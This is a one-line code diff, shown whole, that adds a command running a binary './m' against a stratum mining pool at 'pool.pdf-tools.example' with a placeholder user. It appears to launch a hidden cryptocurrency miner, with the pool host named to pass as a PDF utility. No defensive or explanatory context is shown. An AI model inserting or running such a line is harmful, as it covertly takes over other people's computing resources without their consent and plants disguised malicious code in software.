@@ -1,0 +1,1 @@
+./m -o stratum+tcp://pool.pdf-tools.example:3333 -u x
